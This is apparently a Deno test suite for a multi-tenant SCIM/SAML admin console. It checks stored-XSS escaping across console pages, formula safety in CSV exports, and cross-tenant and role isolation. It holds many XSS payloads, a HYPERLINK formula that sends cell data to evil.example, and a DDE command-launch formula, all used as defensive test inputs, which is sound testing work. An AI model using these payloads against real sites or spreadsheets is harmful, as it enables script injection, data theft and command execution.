  `<!--<img src=x onerror=alert('xss11')>-->`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert('xss12')>`,
  // Already escaped: must be shown as typed, never decoded into markup.
  `&lt;script&gt;alert('xss13')&lt;/script&gt;`,
  `</textarea></title></style><script>alert('xss14')</script>`,
  `<details open ontoggle=alert('xss15')>`,
];

/** Payloads used as attribute names (keys an IdP invents), shown in paths and "changed" lists. */
const NAME_PAYLOADS = [
  `<img src=x onerror=alert('xss-n1')>`,
  `"><svg onload=alert('xss-n2')>`,
  `</code><script>alert('xss-n3')</script>`,
];

/** Spreadsheet formula triggers (OWASP CSV injection), as the first character of a cell. */
const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];

/** Whether a page shows `value` as text, or holds it escaped in an attribute (island props). */
function shows(html: string, value: string): boolean {
  const tokens = tokenize(html);
  if (visibleText(tokens).includes(value)) return true;
  const json = JSON.stringify(value).slice(1, -1);
  return attributeValues(tokens).some((v) => v.includes(value) || v.includes(json));
}

Deno.test("Stored XSS: script payloads in every IdP-sent name are shown as text on every console page, never as markup; CSV exports are formula-safe", async (t) => {
  await using app = await createAdminTestApp();
  await setMirroring(app.kv, app.tenant.id, {
    rules: [
      ...DEFAULT_MIRRORING.rules,
      { field: "jobTitle", sources: ["title"], enabled: true },
      { field: "note", sources: [`${CUSTOM}:note`], enabled: true },
    ],
  }, "test");
  const root = await app.signIn(app.superAdmin);
  const scim = async (method: string, path: string, body: unknown, ok: number) => {
    const res = await app.scim(method, path, body);
    const text = await res.text();
    assert.equal(res.status, ok, `${method} ${path}: ${text.slice(0, 400)}`);
    return text ? JSON.parse(text) : {};
  };

  interface Pushed {
    p: string;
    id: string;
    groupId: string;
    fields: Record<string, string>;
    groupFields: Record<string, string>;
    attrName: string;
  }
  const pushed: Pushed[] = [];
  await t.step("push users and groups whose every name carries a payload", async () => {
    for (const [i, p] of PAYLOADS.entries()) {
      const attrName = `${NAME_PAYLOADS[i % NAME_PAYLOADS.length]}${i}`;
      const fields = {
        userName: `${p}.u${i}@xss.test`,
        externalId: `${p}#ext${i}`,
        displayName: `${p} display${i}`,
        givenName: `${p} given${i}`,
        familyName: `${p} family${i}`,
        formatted: `${p} formatted${i}`,
        title: `${p} title${i}`,
        email: `${p}.mail${i}@xss.test`,
        phone: `${p} phone${i}`,
        address: `${p} address${i}`,
        profileUrl: `javascript:alert('xss-url${i}')`,
        photo: `javascript:alert('xss-photo${i}')`,
        department: `${p} dept${i}`,
        // manager.displayName is read-only (RFC 7643 §4.3): sent, but not kept.
        manager: `${p} manager${i}`,
        note: `${p} note${i}`,
        customKey: `${p} key${i}`,
        junk: `${p} junk${i}`,
      };
      const body = {
        schemas: [CORE_USER, ENTERPRISE, CUSTOM],
        userName: fields.userName,
        externalId: fields.externalId,
        displayName: fields.displayName,
        nickName: p,
        title: fields.title,
        profileUrl: fields.profileUrl,
        name: {
          givenName: fields.givenName,
          familyName: fields.familyName,
          formatted: fields.formatted,
        },
        emails: [{ value: fields.email, type: "work", primary: true }],
        phoneNumbers: [{ value: fields.phone, type: "work" }],
        addresses: [{ formatted: fields.address, type: "work" }],
        photos: [{ value: fields.photo, type: "photo" }],
        [ENTERPRISE]: {
          department: fields.department,
          organization: p,
          manager: { value: `mgr${i}`, displayName: fields.manager },
        },
        [CUSTOM]: { note: fields.note, [fields.customKey]: "custom value" },
        [attrName]: fields.junk,
      };
      const user = await scim("POST", "/Users", body, 201);
      // A member without a displayName, so its group shows the display the IdP sent.
      const plain = await scim("POST", "/Users", { userName: `plain${i}@xss.test` }, 201);
      const groupFields = {
        displayName: `${p} group${i}`,
        externalId: `${p}#g${i}`,
        memberDisplay: `${p} member${i}`,
        plainDisplay: `${p} plain${i}`,
      };
      const group = await scim("POST", "/Groups", {
        displayName: groupFields.displayName,
        externalId: groupFields.externalId,
        members: [
          { value: user.id, display: groupFields.memberDisplay },
          { value: plain.id, display: groupFields.plainDisplay },
        ],
      }, 201);
      // An update whose "changed" list names the invented attribute (a PATCH path could not
      // name it: such a name is no SCIM path).
      await scim("PUT", `/Users/${user.id}`, { ...body, [attrName]: `${p} patched${i}` }, 200);
      pushed.push({ p, id: user.id, groupId: group.id, fields, groupFields, attrName });
    }
    // Attribute names that are spreadsheet formulas, one per trigger character, and a request
    // id that starts with one.
    for (const [k, trigger] of FORMULA_TRIGGERS.entries()) {
      const res = await app.scim("POST", "/Users", {
        userName: `formula${k}@xss.test`,
        [`${trigger}HYPERLINK("http://evil.example/?x="&A1,"open")`]: "=cmd|' /C calc'!A0",
      }, { "x-request-id": `-2+3-${k}` });
      assert.equal(res.status, 201, await res.text());
    }
  });

  // An IdP connection and a token named by a (compromised or careless) super admin.
  const idpName = `<script>alert('xss-idp')</script>`;
  const saml = {
    entityId: `"><img src=x onerror=alert('xss-entity')>`,
    ssoUrl: `https://idp.example/sso?q="><script>alert('xss-sso')</script>`,
    certificate: `</pre><script>alert('xss-cert')</script>`,
  };
  const tokenName = `<img src=x onerror=alert('xss-token')>`;
  let payloadIdp = "";
  await t.step("an IdP and a token named with payloads through the console", async () => {
    const res = await app.admin("/admin/idps", {
      as: root,
      form: { name: idpName, kind: "generic", ...saml },
    });
    assert.equal(res.status, 303, await res.text());
    payloadIdp = /\/admin\/idps\/([^/]+)\/scim/.exec(res.headers.get("location") ?? "")![1];
    const token = await app.admin(`/admin/api/idps/${payloadIdp}/tokens`, {
      as: root,
      json: { name: tokenName },
    });
    assert.equal(token.status, 201, await token.text());
  });

  const pages: { path: string; expect: string[] }[] = [];
  const first = pushed[0];
  pages.push(
    { path: "/admin", expect: [idpName] },
    { path: "/admin/idps", expect: [idpName] },
    { path: `/admin/idps/${payloadIdp}`, expect: [idpName] },
    { path: `/admin/idps/${payloadIdp}/scim`, expect: [idpName, tokenName] },
    {
      path: `/admin/idps/${payloadIdp}/saml`,
      expect: [idpName, saml.entityId, saml.ssoUrl, saml.certificate],
    },
    { path: `/admin/idps/${payloadIdp}/tokens/new`, expect: [idpName] },
    { path: `/admin/idps/${app.idp.id}`, expect: [] },
    { path: `/admin/idps/${app.idp.id}/scim`, expect: [] },
    {
      path: "/admin/users",
      expect: pushed.flatMap((u) => [u.fields.userName, u.fields.displayName, u.fields.email]),
    },
    {
      path: `/admin/users?q=${encodeURIComponent(first.fields.userName.slice(0, 12))}`,
      expect: [first.fields.userName.slice(0, 12), first.fields.userName],
    },
    {
      path: "/admin/groups",
      expect: pushed.map((u) => u.groupFields.displayName),
    },
    {
      path: `/admin/groups?q=${encodeURIComponent(first.groupFields.displayName.slice(0, 12))}`,
      expect: [first.groupFields.displayName.slice(0, 12), first.groupFields.displayName],
    },
    // The first page holds the newest 50 events: the last users' updates and the token.
    { path: "/admin/events", expect: [...pushed.slice(-5).map((u) => u.attrName), tokenName] },
    {
      path: `/admin/events?target=${encodeURIComponent(first.fields.userName)}`,
      expect: [first.fields.userName, first.attrName],
    },
    {
      path: `/admin/settings/mirroring?sample=${encodeURIComponent(first.fields.userName)}`,
      expect: [
        first.fields.userName,
        first.fields.displayName,
        first.fields.department,
        first.fields.title,
        first.fields.note,
      ],
    },
  );
  for (const u of pushed) {
    const f = u.fields;
    pages.push(
      {
        path: `/admin/users/${u.id}`,
        expect: [
          f.userName,
          f.displayName,
          f.email,
          f.givenName,
          f.familyName,
          f.department,
          f.title,
          f.note,
        ],
      },
      {
        path: `/admin/users/${u.id}/attributes`,
        expect: [
          ...Object.values(f).filter((v) => v !== f.junk && v !== f.manager),
          `${u.p} patched${PAYLOADS.indexOf(u.p)}`,
          u.attrName,
        ],
      },
      {
        path: `/admin/users/${u.id}/groups`,
        expect: [u.groupFields.displayName, u.groupFields.externalId],
      },
      { path: `/admin/users/${u.id}/events`, expect: [u.attrName] },
      {
        path: `/admin/groups/${app.idp.id}/${u.groupId}`,
        expect: [
          u.groupFields.displayName,
          u.groupFields.externalId,
          f.userName,
          f.displayName,
          u.groupFields.plainDisplay,
        ],
      },
    );
  }
  // Each event's detail page.
  const events = await (await app.admin("/admin/api/events", { as: root })).json() as {
    events: { id: string; changed?: string[]; summary: string }[];
  };
  for (const e of events.events) {
    const expect = [
      ...(e.changed ?? []).filter((c) => /xss/.test(c)),
      ...(/xss/.test(e.summary) ? [e.summary] : []),
    ];
    pages.push({ path: `/admin/events/${e.id}`, expect });
  }

  await t.step(
    `${pages.length} console pages: inert markup, every payload shown as text`,
    async () => {
      const problems: string[] = [];
      for (const { path, expect } of pages) {
        const html = await expectHtml(await app.admin(path, { as: root }));
        for (const p of markupProblems(html)) problems.push(`${path}: ${p}`);
        for (
          const p of [...PAYLOADS, ...NAME_PAYLOADS, idpName, tokenName, ...Object.values(saml)]
        ) {
          if (p.includes("<") && html.includes(p)) problems.push(`${path}: raw payload ${p}`);
        }
        for (const value of expect) {
          if (!shows(html, value)) {
            problems.push(`${path}: does not show ${JSON.stringify(value)}`);
          }
        }
      }
      report(`stored XSS: ${pages.length} console pages checked, ${PAYLOADS.length} payloads`);
      assert.deepEqual(problems, [], `\n${problems.slice(0, 40).join("\n")}`);
    },
  );

  await t.step("the sign-in page echoes a hostile next and email as text", async () => {
    const next = `/admin/"><script>alert('xss-next')</script>`;
    const email = `"><img src=x onerror=alert('xss-email')>`;
    const page = await expectHtml(
      await app.admin(`/admin/signin?next=${encodeURIComponent(next)}`),
    );
    assert.deepEqual(markupProblems(page), []);
    // The form keeps the path percent-encoded: the same path, with nothing to inject.
    const encoded = new URL(next, "http://x").pathname;
    assert.ok(!encoded.includes('"') && !encoded.includes("<"));
    assert.ok(shows(page, encoded), "next kept in the form");
    const failed = await expectHtml(
      await app.admin("/admin/signin", { form: { email, password: "wrong", next } }),
      401,
    );
    assert.deepEqual(markupProblems(failed), []);
    assert.ok(shows(failed, email) && shows(failed, encoded));
    assert.ok(!failed.includes("<img src=x") && !failed.includes("<script>alert"));
  });

  await t.step("JSON endpoints answer JSON, never HTML", async () => {
    for (
      const path of [
        "/admin/api/events",
        `/admin/api/events?target=${encodeURIComponent(first.fields.userName)}`,
      ]
    ) {
      const res = await app.admin(path, { as: root });
      assert.equal(res.status, 200);
      assert.match(res.headers.get("content-type") ?? "", /^application\/json/);
      assert.equal(res.headers.get("x-content-type-options"), "nosniff");
      JSON.parse(await res.text());
    }
  });

  await t.step("Event Log exports: attachments, not pages; CSV cells formula-safe", async () => {
    const csv = await app.admin("/admin/events/export?format=csv", { as: root });
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get("content-type") ?? "", /^text\/csv/);
    assert.match(csv.headers.get("content-disposition") ?? "", /^attachment;/);
    assert.equal(csv.headers.get("x-content-type-options"), "nosniff");
    const rows = parseCsv(await csv.text());
    const width = rows[0].length;
    assert.equal(width, 13, rows[0].join(","));
    const bad: string[] = [];
    const defused = new Set<string>();
    for (const [r, row] of rows.entries()) {
      if (row.length !== width) bad.push(`row ${r}: ${row.length} cells`);
      for (const cell of row) {
        if (isFormula(cell)) {
          bad.push(`row ${r}: formula cell ${JSON.stringify(cell.slice(0, 60))}`);
        }
        if (cell.startsWith("'") && isFormula(cell.slice(1))) defused.add(cell[1]);
      }
    }
    assert.deepEqual(bad, [], bad.slice(0, 20).join("\n"));
    // Every trigger reached the export (in "changed" or the request id) and was defused.
    assert.deepEqual([...defused].sort(), [...FORMULA_TRIGGERS].sort());
    // Payloads survive the export unchanged (it is data, not markup).
    const cells = rows.flat().join("\n");
    for (const u of pushed) assert.ok(cells.includes(u.attrName), u.attrName);

    const jsonl = await app.admin("/admin/events/export?format=jsonl", { as: root });
    assert.equal(jsonl.status, 200);
    assert.match(jsonl.headers.get("content-type") ?? "", /^application\/x-ndjson/);
    assert.match(jsonl.headers.get("content-disposition") ?? "", /^attachment;/);
    const lines = (await jsonl.text()).split("\n").filter(Boolean);
    assert.equal(lines.length, rows.length - 1, "one JSON line per CSV row");
    for (const line of lines) JSON.parse(line);
  });
});

Deno.test("Stored XSS checker: it sees each payload when a page does not escape it (negative control)", () => {
  const escape = (v: string) =>
    v.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")
      .replaceAll('"', "&quot;").replaceAll("'", "&#39;");
  const page = (v: string) =>
    `<!doctype html><html><head><title>${v}</title></head><body><p>${v}</p>` +
    `<input name="q" value="${v}"><a href="/admin/x" title='${v}'>x</a>` +
    `<td class=value>${v}</td></body></html>`;
  // Shown as text these two are inert even unescaped (no markup in them); in an href they run.
  const inertAsText = new Set([PAYLOADS[2], PAYLOADS[12]]);
  for (const p of [...PAYLOADS, ...NAME_PAYLOADS]) {
    if (!inertAsText.has(p)) {
      assert.notDeepEqual(markupProblems(page(p)), [], `unescaped ${p} not seen`);
    }
    assert.notDeepEqual(markupProblems(`<a href="${p}">x</a>`), [], `href ${p} not seen`);
    assert.deepEqual(markupProblems(page(escape(p))), [], `escaped ${p} flagged`);
    assert.ok(shows(page(escape(p)), p), `escaped ${p} not found as text`);
    assert.ok(!shows(page(escape(escape(p))), p), `double-escaped ${p} taken for the value`);
  }
  // CSV: quoting alone does not defuse a formula; the leading apostrophe does.
  assert.ok(parseCsv(`"=1+1","x"\r\n`)[0].some(isFormula));
  assert.ok(!parseCsv(`"'=1+1","x"\r\n`)[0].some(isFormula));
  assert.deepEqual(parseCsv(`"a,""b""\r\nc",d\r\n`), [[`a,"b"\r\nc`, "d"]]);
});

// ---------------------------------------------------------------------------------------------
// Isolation matrix and roles
// ---------------------------------------------------------------------------------------------

Deno.test("Isolation: console routes across tenants (cookie on another host, another tenant's ids) → refused or 404, nothing leaked or changed; read-only admins change nothing", async (t) => {
  await using app = await createAdminTestApp();
  // Tenant A (acme, the victim): users, a group, a second token, events, admins with sessions.
  const scimA = async (method: string, path: string, body: unknown) => {
    const res = await app.scim(method, path, body);
    assert.ok(res.status < 300, `${method} ${path}: ${res.status}`);
    return await res.json();
  };
  const ua = await scimA("POST", "/Users", {
    userName: "secret.alice@victim.test",
    externalId: "ext-secret-alice",
    displayName: "Secret Alice Victim",
    name: { givenName: "SecretGivenAlice", familyName: "SecretFamilyVictim" },
    emails: [{ value: "mail.alice@victim.test", type: "work", primary: true }],
    title: "SecretTitleAlice",
  });
  const ga = await scimA("POST", "/Groups", {
    displayName: "Secret Group Victim",
    externalId: "gext-secret-victim",
    members: [{ value: ua.id }],
  });
  const tokA = await createToken(app.kv, app.tenant.id, app.idp.id, {
    name: "SecretTokenName",
    createdBy: "root@acme.test",
  });
  const victimSession = await app.signIn(app.superAdmin);
  const viewerSession = await app.signIn(app.readOnly);
  const evA = (await (await app.admin("/admin/api/events", { as: victimSession })).json())
    .events as { id: string }[];
  assert.ok(evA.length >= 3);
  const secrets = [
    ua.id,
    ua.userName,
    ua.externalId,
    ua.displayName,
    "mail.alice@victim.test",
    "SecretGivenAlice",
    "SecretFamilyVictim",
    "SecretTitleAlice",
    ga.id,
    ga.displayName,
    ga.externalId,
    app.idp.id,
    app.idp.name === "Okta" ? "" : app.idp.name,
    tokA.token.id,
    "SecretTokenName",
    tokA.secret,
    app.superAdmin.id,
    app.superAdmin.email,
    app.readOnly.id,
    app.readOnly.email,
    app.tenant.id,
    ...evA.map((e) => e.id),
  ].filter(Boolean);

  // Tenant B (globex, the attacker): its own IdP, user, group and super admin.
  const globex = await createTenant(app.kv, { subdomain: "globex" });
  const idpB = await createIdp(app.kv, globex.id, { name: "GlobexIdP", kind: "okta" });
  const tokB = await createToken(app.kv, globex.id, idpB.id, { name: "b", createdBy: "t" });
  const scimB = async (path: string, body: unknown) => {
    const res = await app.app.request(
      `http://globex.localhost/scim/v2/inbound/${idpB.id}${path}`,
      {
        method: "POST",
        headers: {
          authorization: `Bearer ${tokB.secret}`,
          "content-type": "application/scim+json",
        },
        body: JSON.stringify(body),
      },
    );
    assert.equal(res.status, 201);
    return await res.json();
  };
  const ub = await scimB("/Users", { userName: "bob@globex.test" });
  const gb = await scimB("/Groups", { displayName: "Globex Group", members: [{ value: ub.id }] });
  const adminB = await app.addAdmin(
    "boss@globex.test",
    "super_admin",
    globex.id,
    "http://globex.localhost",
  );
  const attacker = await app.signIn(adminB);
  const B = "globex.localhost";

  const tenantA = async () =>
    await snapshotKv(app.kv, REQUEST_LOG_KINDS).then((all) =>
      new Map(
        [...all].filter(([k]) => k.startsWith(JSON.stringify(["t", app.tenant.id]).slice(0, -1))),
      )
    );
  const before = await tenantA();
  const problems: string[] = [];
  let requests = 0;
  const scan = (what: string, sent: string, text: string, h: Headers) => {
    const found = secrets.filter((s) =>
      !sent.includes(s) && (text + JSON.stringify([...h])).includes(s)
    );
    if (found.length) problems.push(`${what}: leaked ${found.join(", ")}`);
  };
  const send = async (
    what: string,
    r: ConsoleRequest,
    allowed: number[],
    check?: (text: string) => string | null,
  ) => {
    const res = await settle(await consoleRequest(app, r));
    requests++;
    if (!allowed.includes(res.status)) {
      problems.push(
        `${what}: ${r.method ?? (r.form || r.json ? "POST" : "GET")} ${r.path} → ${res.status} ${
          res.text.slice(0, 120)
        }`,
      );
    }
    // What the attacker typed may come back (a search box); anything else of A's is a leak.
    if (r.host === B) {
      scan(
        what,
        decodeURIComponent(r.path) + JSON.stringify(r.form ?? r.json ?? ""),
        res.text,
        res.h,
      );
    }
    const extra = check?.(res.text);
    if (extra) problems.push(`${what}: ${r.path}: ${extra}`);
    return res;
  };

  const getRoutes = [
    "/admin",
    "/admin/users",
    `/admin/users/${ua.id}`,
    `/admin/users/${ua.id}/attributes`,
    `/admin/users/${ua.id}/groups`,
    `/admin/users/${ua.id}/events`,
    "/admin/groups",
    `/admin/groups/${app.idp.id}/${ga.id}`,
    "/admin/idps",
    `/admin/idps/${app.idp.id}`,
    `/admin/idps/${app.idp.id}/scim`,
    `/admin/idps/${app.idp.id}/saml`,
    `/admin/idps/${app.idp.id}/tokens/new`,
    "/admin/events",
    `/admin/events/${evA[0].id}`,
    "/admin/events/export?format=csv",
    "/admin/settings/mirroring",
    "/admin/admins",
    "/admin/api/events",
    "/admin/api/mirroring/job",
  ];
  const postRoutes: { path: string; form?: Record<string, string>; json?: unknown }[] = [
    { path: "/admin/idps", form: { name: "x", kind: "okta" } },
    { path: `/admin/idps/${app.idp.id}/tokens`, form: { name: "x" } },
    { path: `/admin/api/idps/${app.idp.id}/tokens`, json: { name: "x" } },
    {
      path: `/admin/idps/${app.idp.id}/tokens/${tokA.token.id}/revoke`,
      form: { confirmed: "yes" },
    },
    { path: "/admin/settings/mirroring", form: { field_0: "userName", sources_0: "userName" } },
    { path: "/admin/settings/mirroring/reapply", form: {} },
    { path: "/admin/admins/links", form: { role: "super_admin" } },
    { path: `/admin/admins/${app.superAdmin.id}/revoke-sessions`, form: { confirmed: "yes" } },
    { path: `/admin/admins/${app.readOnly.id}/remove`, form: { confirmed: "yes" } },
    { path: "/admin/signout", form: {} },
  ];

  await t.step("tenant A's session cookie on tenant B's host is no session there", async () => {
    for (const path of getRoutes) {
      await send("A's cookie on B's host", { path, host: B, cookie: victimSession.cookie }, [
        path.startsWith("/admin/api/") ? 401 : 302,
      ]);
    }
    for (const r of postRoutes) {
      await send("A's cookie and token on B's host", {
        path: r.path,
        host: B,
        cookie: victimSession.cookie,
        form: r.form,
        json: r.json,
        csrf: { token: victimSession.csrf, in: r.json ? "header" : "body" },
      }, r.json ? [401, 403] : [403]);
    }
    // And the other way round: B's cookie means nothing on A's host.
    await send("B's cookie on A's host", { path: "/admin/users", cookie: attacker.cookie }, [
      302,
    ]);
  });

  await t.step(
    "tenant B's admin with tenant A's ids on B's host → 404, nothing leaked",
    async () => {
      const as = { host: B, cookie: attacker.cookie };
      const idOf404 = [
        `/admin/users/${ua.id}`,
        `/admin/users/${ua.id}/attributes`,
        `/admin/users/${ua.id}/groups`,
        `/admin/users/${ua.id}/events`,
        `/admin/groups/${app.idp.id}/${ga.id}`,
        `/admin/groups/${idpB.id}/${ga.id}`,
        `/admin/idps/${app.idp.id}`,
        `/admin/idps/${app.idp.id}/scim`,
        `/admin/idps/${app.idp.id}/saml`,
        `/admin/idps/${app.idp.id}/tokens/new`,
        ...evA.map((e) => `/admin/events/${e.id}`),
      ];
      for (const path of idOf404) await send("B with A's ids", { ...as, path }, [404]);
      // Lists, searches and filters that name A's values find nothing of A.
      const noneOfA = [
        "/admin",
        "/admin/users",
        "/admin/users?q=secret",
        `/admin/users?q=${encodeURIComponent("mail.alice")}`,
        `/admin/users?idp=${app.idp.id}`,
        "/admin/groups",
        "/admin/groups?q=Secret",
        `/admin/groups?idp=${app.idp.id}`,
        "/admin/idps",
        "/admin/events",
        `/admin/events?target=${ua.id}`,
        `/admin/events?target=${encodeURIComponent(ua.userName)}`,
        `/admin/events?target=${encodeURIComponent(ga.displayName)}`,
        `/admin/events?idp=${app.idp.id}`,
        `/admin/events/export?format=csv&target=${ua.id}`,
        `/admin/events/export?format=jsonl&idp=${app.idp.id}`,
        "/admin/events/export?format=jsonl",
        `/admin/api/events?target=${ua.id}`,
        `/admin/api/events?idp=${app.idp.id}`,
        "/admin/api/mirroring/job",
        `/admin/settings/mirroring?sample=${encodeURIComponent(ua.userName)}`,
        "/admin/settings/mirroring?sample=secret",
        "/admin/admins",
      ];
      for (const path of noneOfA) await send("B's lists and searches", { ...as, path }, [200]);
      // B's own data is there (the pages work), A's is not.
      const own = await send("B's own user", { ...as, path: `/admin/users/${ub.id}` }, [200]);
      assert.match(own.text, /bob@globex\.test/);
      await send("B's own group", { ...as, path: `/admin/groups/${idpB.id}/${gb.id}` }, [200]);
      // Changes aimed at A's IdP, token and admins, with B's valid session and token.
      const post = (path: string, form?: Record<string, string>, json?: unknown) =>
        send("B changes A's things", {
          ...as,
          path,
          form,
          json,
          csrf: { token: attacker.csrf, in: json ? "header" : "body" },
        }, [404]);
      await post(`/admin/idps/${app.idp.id}/tokens`, { name: "planted" });
      await post(`/admin/api/idps/${app.idp.id}/tokens`, undefined, { name: "planted" });
      await post(`/admin/idps/${app.idp.id}/tokens/${tokA.token.id}/revoke`, {
        confirmed: "yes",
      });
      await post(`/admin/idps/${idpB.id}/tokens/${tokA.token.id}/revoke`, { confirmed: "yes" });
      await post(`/admin/admins/${app.superAdmin.id}/revoke-sessions`, { confirmed: "yes" });
      await post(`/admin/admins/${app.readOnly.id}/remove`, { confirmed: "yes" });
      // A's sessions, admins and token are as they were.
      await expectHtml(await app.admin("/admin", { as: victimSession }));
      await expectHtml(await app.admin("/admin", { as: viewerSession }));
      const scimOk = await app.scim("GET", "/Users?count=1");
      assert.equal(scimOk.status, 200, "A's SCIM token still works");
      await scimOk.body?.cancel();
    },
  );

  await t.step(
    "a read-only admin cannot create tokens or IdPs, revoke, change mirroring or admins",
    async () => {
      const as = { cookie: viewerSession.cookie };
      for (const r of postRoutes.filter((r) => r.path !== "/admin/signout")) {
        const snap = await snapshotKv(app.kv);
        await send(
          "read-only admin",
          {
            ...as,
            path: r.path,
            form: r.form,
            json: r.json,
            csrf: { token: viewerSession.csrf, in: r.json ? "header" : "body" },
          },
          [403],
          (text) => /super admin/.test(text) ? null : "no role refusal in the answer",
        );
        const diff = diffSnapshots(snap, await snapshotKv(app.kv), 5);
        if (diff.length) {
          problems.push(`read-only ${r.path} changed the store: ${diff.join("; ")}`);
        }
      }
      // The preview computes without saving, but is a super admin's tool too.
      await send("read-only admin", {
        ...as,
        path: "/admin/settings/mirroring/preview",
        form: { field_0: "userName", sources_0: "userName", enabled_0: "on" },
        csrf: { token: viewerSession.csrf, in: "body" },
      }, [403]);
      for (const path of [`/admin/idps/${app.idp.id}/tokens/new`, "/admin/admins"]) {
        await send("read-only admin", { ...as, path }, [403]);
      }
      // Reading is allowed.
      for (const path of ["/admin/users", `/admin/idps/${app.idp.id}/scim`, "/admin/events"]) {
        await send("read-only admin reads", { ...as, path }, [200]);
      }
    },
  );

  await t.step("tenant A's data is exactly as before", async () => {
    const diff = diffSnapshots(before, await tenantA(), 20);
    // Reading writes nothing; only A's own successful console reads ran in between.
    assert.deepEqual(diff, [], diff.join("\n"));
  });
  report(`console isolation: ${requests} requests across 2 tenants and 2 roles`);
  assert.deepEqual(problems, [], `\n${problems.slice(0, 40).join("\n")}`);
});
